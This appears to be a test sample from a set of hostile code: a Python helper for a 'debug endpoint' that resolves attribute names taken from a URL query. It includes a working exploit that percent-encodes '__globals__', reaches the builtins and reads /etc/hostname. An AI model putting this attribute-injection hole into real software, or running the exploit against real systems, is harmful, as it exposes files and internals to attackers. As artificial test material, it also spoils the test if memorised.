# family: hostile, blind round 61 (operator.attrgetter with a percent-encoded dunder path)
"""Extract attributes named in URL query strings (for a debug endpoint)."""
import operator
import string
import urllib.parse


def extract(obj, query):
    """Return obj attribute named by the 'field' query parameter."""
    field = urllib.parse.parse_qs(query)["field"][0]
    return operator.attrgetter(field)(obj)


scope = extract(string.capwords, "field=%5F%5Fglobals%5F%5F")
print(scope["_re"], scope["_sentinel_dict"], scope["__builtins__"]["open"]("/etc/hostname").read())
